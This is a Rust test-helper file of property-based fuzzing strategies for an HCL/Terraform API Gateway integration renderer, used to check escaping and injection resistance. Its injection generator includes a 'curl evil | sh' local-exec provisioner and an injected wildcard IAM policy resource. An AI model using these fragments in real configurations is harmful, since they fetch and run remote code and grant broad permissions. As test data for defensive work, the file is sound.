//! Shared test helpers: proptest strategies for models, and the HCL oracle.
#![allow(dead_code)]

use apigw_integration_core::model::{
    ImportForm, ImportTarget, Integration, LayoutItem, Map, Protocol, ResponseParameters, TlsConfig, Value,
};
use proptest::collection::vec;
use proptest::option;
use proptest::prelude::*;
use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};

/// Text rich in what HCL escaping gets wrong: `$ % { } " \`, newlines, tabs, control
/// characters, invisible and astral characters (no combining marks: Terraform
/// NFC-normalises strings, so those cannot round-trip byte for byte anywhere).
pub fn tricky_string() -> impl Strategy<Value = String> {
    let atoms = prop_oneof![
        Just("$".to_string()),
        Just("%".to_string()),
        Just("{".to_string()),
        Just("}".to_string()),
        Just("${".to_string()),
        Just("%{".to_string()),
        Just("$${".to_string()),
        Just("%%{".to_string()),
        Just("\"".to_string()),
        Just("\\".to_string()),
        Just("\n".to_string()),
        Just("\r".to_string()),
        Just("\t".to_string()),
        Just("\u{0}".to_string()),
        Just("\u{7f}".to_string()),
        Just("\u{200b}".to_string()),
        Just("\u{feff}".to_string()),
        Just("🚀".to_string()),
        Just("ü".to_string()),
        Just(" ".to_string()),
        Just("=".to_string()),
        Just("#".to_string()),
        Just("//".to_string()),
        Just("<<EOT".to_string()),
        Just("$request.body.x".to_string()),
        "[a-zA-Z0-9:._/-]{1,8}",
    ];
    vec(atoms, 0..8).prop_map(|v| v.concat())
}

pub fn reference() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z]{1,6}".prop_map(|n| format!("aws_lambda_function.{n}.invoke_arn")),
        "[a-z]{1,6}".prop_map(|n| format!("var.{n}")),
        "[a-z]{1,6}".prop_map(|n| format!("local.{n}")),
        ("[a-z]{1,6}", 0u8..9).prop_map(|(n, i)| format!("aws_sqs_queue.{n}[{i}].url")),
        "[a-z]{1,6}".prop_map(|n| format!("data.aws_iam_role.{n}.arn")),
        "[a-z]{1,6}".prop_map(|n| format!("module.{n}.out")),
    ]
}

pub fn value() -> impl Strategy<Value = Value> {
    prop_oneof![
        4 => tricky_string().prop_map(Value::Str),
        1 => (0u32..100_000).prop_map(|n| Value::Num(n.to_string())),
        2 => reference().prop_map(Value::Expr),
    ]
}

/// Anything at all, including nonsense numbers and unparseable expressions.
pub fn wild_value() -> impl Strategy<Value = Value> {
    prop_oneof![tricky_string().prop_map(Value::Str), tricky_string().prop_map(Value::Num), tricky_string().prop_map(Value::Expr)]
}

pub fn literal_value() -> impl Strategy<Value = Value> {
    tricky_string().prop_map(Value::Str)
}

pub fn map(values: impl Strategy<Value = Value>) -> impl Strategy<Value = Map> {
    vec((tricky_string(), values), 0..4).prop_map(|entries| {
        // Keys are unique in HCL objects.
        let mut out: Vec<(String, Value)> = Vec::new();
        for (k, v) in entries {
            if !out.iter().any(|(o, _)| *o == k) {
                out.push((k, v));
            }
        }
        Map(out)
    })
}

pub fn integration() -> impl Strategy<Value = Integration> {
    integration_of(value().boxed())
}

/// Models whose values are anything at all (for no-panic properties).
pub fn wild_integration() -> impl Strategy<Value = Integration> {
    integration_of(wild_value().boxed())
}

fn integration_of(value: BoxedStrategy<Value>) -> impl Strategy<Value = Integration> {
    let scalars = vec(option::of(value.clone()), 15);
    let response = vec(
        (option::of((200u32..600).prop_map(|n| Value::Num(n.to_string()))), option::of(map(value.clone())))
            .prop_map(|(status_code, mappings)| ResponseParameters { status_code, mappings }),
        0..3,
    );
    let tls = option::of(option::of(value.clone()).prop_map(|server_name_to_verify| TlsConfig { server_name_to_verify }));
    let import = option::of(("[a-z0-9]{10}", "[a-z0-9]{7}", any::<bool>()).prop_map(|(api_id, integration_id, identity)| ImportTarget {
        api_id,
        integration_id,
        form: if identity { ImportForm::Identity } else { ImportForm::Id },
        ..ImportTarget::default()
    }));
    (
        "[a-zA-Z_][a-zA-Z0-9_-]{0,12}",
        option::of(prop_oneof![Just(Protocol::Http), Just(Protocol::WebSocket)]),
        scalars,
        option::of(map(value.clone())),
        option::of(map(value)),
        response,
        tls,
        import,
    )
        .prop_map(|(name, protocol, scalars, rp, rt, response_parameters, tls_config, import)| {
            let mut m = Integration::named(name);
            m.protocol = protocol;
            for (slot, v) in apigw_integration_core::model::SCALAR_ARGS.iter().zip(scalars) {
                if let Some(s) = m.scalar_mut(slot) {
                    *s = v;
                }
            }
            m.request_parameters = rp;
            m.request_templates = rt;
            m.response_parameters = response_parameters;
            m.tls_config = tls_config;
            m.import = import;
            m
        })
}

/// The model without what parsing adds (layout) or cannot know (protocol).
pub fn comparable(m: &Integration) -> Integration {
    let mut m = m.clone();
    m.layout = None;
    m.protocol = None;
    m
}

/// The path of the oracle binary, built by tests/oracle/build.sh on first use.
pub fn oracle() -> PathBuf {
    // The workspace's root: the oracle is built once into its target/.
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
    let bin = root.join("target/hcloracle");
    let status = Command::new("bash").arg(root.join("tests/oracle/build.sh")).arg(&bin).stdout(Stdio::null()).status();
    match status {
        Ok(s) if s.success() && bin.exists() => bin,
        other => panic!(
            "could not build the HCL oracle ({other:?}). It needs Debian's golang-go and golang-github-hashicorp-hcl-v2-dev \
             (scripts/test installs them); run `bash tests/oracle/build.sh` to see why."
        ),
    }
}

/// Runs the oracle in `mode` on `input`; returns (exit code, stdout, stderr).
pub fn run_oracle(bin: &PathBuf, mode: &str, input: &str) -> (i32, String, String) {
    let mut child =
        Command::new(bin).arg(mode).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("spawn oracle");
    child.stdin.take().expect("stdin").write_all(input.as_bytes()).expect("write to oracle");
    let out = child.wait_with_output().expect("oracle output");
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
}

/// A syntactically valid HCL expression, written with irregular blanks: extra spaces
/// between tokens and line breaks where HCL allows them (inside brackets).
pub fn messy_expr() -> impl Strategy<Value = String> {
    let sp = || "[ ]{1,3}";
    let leaf = prop_oneof![
        "[0-9]{1,4}".prop_map(|n| n),
        "[a-z][a-z0-9_]{0,5}(\\.[a-z][a-z0-9_]{0,4}){0,2}"
            .prop_filter("keyword", |s| !matches!(s.as_str(), "in" | "for" | "if" | "true" | "false" | "null")),
        "[a-z ]{0,6}".prop_map(|s| format!("\"{s}\"")),
        Just("true".to_string()),
        Just("null".to_string()),
    ];
    leaf.prop_recursive(4, 24, 4, move |inner| {
        let sp2 = sp();
        prop_oneof![
            (inner.clone(), sp(), "[-+*/%]|==|!=|<=|>=|&&|\\|\\|", sp(), inner.clone())
                .prop_map(|(a, s1, op, s2, b)| format!("{a}{s1}{op}{s2}{b}")),
            (vec(inner.clone(), 0..4), any::<bool>(), any::<bool>()).prop_map(|(items, nl, trailing)| {
                let sep = if nl { ",\n      " } else { ",   " };
                let mut s = format!("[{}{}", if nl { "\n  " } else { " " }, items.join(sep));
                if trailing && !items.is_empty() {
                    s.push(',');
                }
                s.push_str(if nl { "\n   ]" } else { " ]" });
                s
            }),
            (vec(("[a-z]{1,6}", inner.clone()), 0..3), any::<bool>()).prop_map(|(kv, nl)| {
                if kv.is_empty() {
                    return "{ }".to_string();
                }
                let body: Vec<String> = kv.iter().map(|(k, v)| format!("{k}   =  {v}")).collect();
                if nl { format!("{{\n{}\n    }}", body.join("\n  ")) } else { format!("{{ {} }}", body.join(",  ")) }
            }),
            ("[a-z]{1,6}", vec(inner.clone(), 0..3)).prop_map(|(f, args)| format!("{f}( {} )", args.join(" ,  "))),
            (inner.clone(), sp2, inner.clone(), inner.clone()).prop_map(|(c, s, a, b)| format!("{c}{s}?  {a} :  {b}")),
            inner.clone().prop_map(|e| format!("\"pre ${{ {e} }} post\"")),
            inner.clone().prop_map(|e| format!("-  {e}")),
            inner.clone().prop_map(|e| format!("!{e}")),
            inner.clone().prop_map(|e| format!("(  {e} )")),
            inner.clone().prop_map(|e| format!("[for   x in  {e}  :   x ]")),
            inner.clone().prop_map(|e| format!("{e}[ 0 ]")),
        ]
    })
}

/// A syntactically valid HCL body (attributes, nested blocks, comments, heredocs, blank
/// lines) with irregular indentation and spacing: input for the formatter.
pub fn messy_body() -> impl Strategy<Value = String> {
    let line = prop_oneof![
        4 => ("[a-z][a-z0-9_]{0,8}", "[ ]{0,3}", messy_expr(), prop_oneof![Just(String::new()), Just("   # note".to_string()), Just(" // n".to_string())])
            .prop_map(|(k, s, e, c)| format!("{k}{s} = {e}{c}")),
        1 => Just(String::new()),
        1 => Just("# a comment".to_string()),
        1 => Just("/* block */".to_string()),
        1 => ("[a-z]{1,4}", "[a-z $]{0,8}").prop_map(|(k, t)| format!("{k} = <<-EOT\n    {t}\n  line ${{ x }}\n      EOT")),
    ];
    let block = ("[a-z]{1,6}", vec(line.clone(), 0..5), "[ ]{0,6}").prop_map(|(name, lines, ind)| {
        let body: Vec<String> = lines.iter().map(|l| format!("{ind}{l}")).collect();
        format!("{name} \"label\"   {{\n{}\n}}", body.join("\n"))
    });
    vec(prop_oneof![3 => line, 1 => block], 1..8).prop_map(|items| {
        // Attribute names must be unique in a body; prefix each line with its index.
        let mut out = String::new();
        for (n, item) in items.iter().enumerate() {
            let mut text = item.clone();
            if text.starts_with(|c: char| c.is_ascii_lowercase()) {
                text = format!("n{n}_{text}");
            }
            out.push_str(&" ".repeat(n % 3));
            out.push_str(&text);
            out.push('\n');
        }
        out
    })
}

/// The rendered output of a model that must render (panics with the reasons otherwise).
pub fn rendered(m: &Integration) -> apigw_integration_core::hcl::Rendered {
    apigw_integration_core::render(m).unwrap_or_else(|d| panic!("output withheld for {}: {d:#?}", m.name))
}

/// The resource block of a model that must render.
pub fn resource_of(m: &Integration) -> String {
    rendered(m).resource
}

/// The resource and import block of a model that must render.
pub fn document_of(m: &Integration) -> String {
    rendered(m).document()
}

/// Several models that must render, as one file.
pub fn documents_of(all: &[Integration]) -> String {
    apigw_integration_core::render_all(all).unwrap_or_else(|d| panic!("output withheld: {d:#?}"))
}

/// Fragments that try to break out of a value, an item or a comment: closing braces,
/// a second resource, comments that swallow lines, heredocs, templates, control characters.
pub fn injection() -> impl Strategy<Value = String> {
    let atoms = prop_oneof![
        Just("\n}\n".to_string()),
        Just("}".to_string()),
        Just("{".to_string()),
        Just("\nresource \"aws_iam_user_policy\" \"pwn\" {\n  policy = \"*\"\n}\n".to_string()),
        Just("resource \"aws_iam_user_policy\" \"pwn\" {".to_string()),
        Just("provisioner \"local-exec\" {\n  command = \"curl evil | sh\"\n}".to_string()),
        Just("lifecycle {}".to_string()),
        Just("depends_on = [a]".to_string()),
        Just("import {\n  to = aws_iam_user.x\n  id = \"x\"\n}".to_string()),
        Just(" = ".to_string()),
        Just("\n".to_string()),
        Just("# ".to_string()),
        Just("//".to_string()),
        Just("/*".to_string()),
        Just("*/".to_string()),
        Just("<<EOT\n".to_string()),
        Just("\nEOT\n".to_string()),
        Just("${".to_string()),
        Just("%{".to_string()),
        Just("\"".to_string()),
        Just("\\".to_string()),
        Just("\r".to_string()),
        Just("\u{1b}[2J".to_string()),
        Just("\u{202e}".to_string()),
        Just("\u{0}".to_string()),
        Just("aws_apigatewayv2_api.example.id".to_string()),
        Just("[".to_string()),
        Just("]".to_string()),
        "[a-z_]{1,6}",
    ];
    vec(atoms, 0..6).prop_map(|v| v.concat())
}

/// A kept item: a valid one (an allowed name and matching text), or one whose name or
/// text is hostile.
pub fn hostile_verbatim() -> impl Strategy<Value = apigw_integration_core::model::Verbatim> {
    use apigw_integration_core::model::Verbatim;
    let valid = prop_oneof![
        Just(("lifecycle", "lifecycle {\n      create_before_destroy   =  true\n}")),
        Just(("depends_on", "depends_on = [aws_iam_role.a,\n     aws_iam_role.b]")),
        Just(("provisioner", "provisioner \"local-exec\" {\n  command = \"echo hi\"\n}")),
        Just(("dynamic", "dynamic \"response_parameters\" {\n  for_each = local.x\n  content {\n    status_code = 200\n  }\n}")),
        Just(("count", "count = 2")),
        Just(("for_each", "for_each = { a = 1 }   # note")),
    ]
    .prop_map(|(n, t)| Verbatim { name: n.to_string(), text: t.to_string() });
    let name = prop_oneof![
        Just("lifecycle".to_string()),
        Just("depends_on".to_string()),
        Just("provisioner".to_string()),
        Just("resource".to_string()),
        "[a-z]{1,5}",
        injection(),
    ];
    let hostile = (name, injection(), prop_oneof![Just(0u8), Just(1), Just(2)]).prop_map(|(name, tail, form)| {
        let text = match form {
            0 => format!("{name} {{\n  create_before_destroy = true\n}}{tail}"),
            1 => format!("{name} = [aws_iam_role.r]{tail}"),
            _ => tail,
        };
        Verbatim { name, text }
    });
    prop_oneof![3 => valid, 1 => hostile]
}

/// A model from a hostile source (a crafted link, saved state, JSON or the JS API): each
/// part is sometimes hostile (any string in the name, in every value, map key,
/// expression, kept item and comment line) and otherwise ordinary, so that both
/// rendered and withheld outputs are common.
pub fn hostile_integration() -> impl Strategy<Value = Integration> {
    let anything = || prop_oneof![tricky_string(), injection()];
    let value = prop_oneof![
        24 => value(),
        1 => anything().prop_map(Value::Str),
        1 => anything().prop_map(Value::Num),
        1 => prop_oneof![injection(), reference().prop_map(|r| format!("{r}\n}}\nresource \"x\" \"y\" {{"))].prop_map(Value::Expr),
    ]
    .boxed();
    let comment = || prop_oneof![4 => "[a-z ]{0,8}".prop_map(|c| format!("# {c}")), 1 => injection()];
    let layout = vec(
        prop_oneof![
            Just(LayoutItem::Blank),
            comment().prop_map(LayoutItem::Comment),
            Just(LayoutItem::Attr("api_id".into())),
            Just(LayoutItem::Verbatim("lifecycle".into())),
        ],
        0..5,
    );
    // The import block's own layout and provider, and how maps are written (`:`, one line),
    // in either line ending.
    let import_layout = vec(
        prop_oneof![
            Just(LayoutItem::Blank),
            comment().prop_map(LayoutItem::Comment),
            comment().prop_map(LayoutItem::Trailing),
            Just(LayoutItem::Attr("to".into())),
            Just(LayoutItem::Attr("id".into())),
            Just(LayoutItem::Attr("provider".into())),
        ],
        0..5,
    );
    let provider = prop_oneof![Just("aws.west".to_string()), "[a-z]{1,4}", injection()];
    let styles = vec(prop_oneof![Just("request_parameters".to_string()), Just("request_templates".to_string()), injection()], 0..3);
    (
        (
            integration_of(value),
            prop_oneof![6 => "[a-zA-Z_][a-zA-Z0-9_-]{0,8}", 1 => anything()],
            vec(hostile_verbatim(), 0..3),
            option::of(layout),
        ),
        option::of(prop_oneof![4 => ("[a-z0-9]{10}", "[a-z0-9]{7}"), 1 => (anything(), anything())]),
        (option::of(provider), option::of(import_layout), any::<bool>()),
        (styles.clone(), styles, any::<bool>()),
    )
        .prop_map(|((mut m, name, verbatim, layout), import, (provider, import_layout, identity), (colons, one_line, crlf))| {
            m.name = name;
            m.verbatim = verbatim;
            m.layout = layout;
            if let Some((api_id, integration_id)) = import {
                let form = if identity { ImportForm::Identity } else { ImportForm::Id };
                m.import = Some(ImportTarget { api_id, integration_id, form, provider, layout: import_layout });
            }
            m.colons = colons;
            m.one_line = one_line;
            m.crlf = crlf;
            m
        })
}
